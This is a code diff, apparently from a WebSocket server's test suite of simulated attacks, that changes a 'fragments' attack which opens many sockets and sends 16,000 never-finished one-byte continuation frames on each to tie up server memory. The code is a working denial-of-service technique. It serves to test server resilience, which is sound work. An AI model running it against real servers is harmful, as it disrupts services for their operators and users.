@@ -138,17 +138,24 @@ function soon(version) {
   return [epoch, complete, (now + (now / Date.now()) * 4000).toString(36).split('.')[0], ...writer].join('.');
 }
 
+const FRAGMENTS = 16_000;
+/** Two bytes of head, four of the mask, and the byte itself. */
+const FRAGMENT_BYTES = 7;
+
 const fragments = {
   name: 'framing: fragments of one byte that never end',
-  about: 'messages in continuation frames of one byte, on many WebSockets',
-  run: (attacker) =>
-    attacker.again(async () => {
+  about: `${FRAGMENTS} continuation frames of one byte on each WebSocket, which stays`,
+  run: async (attacker) => {
+    const part = filled(frame('x', { opcode: opcodes.continuation, fin: false }), FRAGMENTS * FRAGMENT_BYTES);
+    const connections = [];
+    await attacker.again(async () => {
       const connection = await attacker.socket();
+      connections.push(connection);
       await attacker.send(connection, frame('4', { fin: false }));
-      const part = filled(frame('x', { opcode: opcodes.continuation, fin: false }), 130_000);
-      // Less than a whole message, so that it stays.
-      for (let count = 0; count < 7; count++) if (!(await attacker.send(connection, part))) break;
-    }),
+      await attacker.send(connection, part);
+    });
+    for (const connection of connections) connection.close();
+  },
 };
 
 /** @type {import('../attacks.js').Attack[]} */
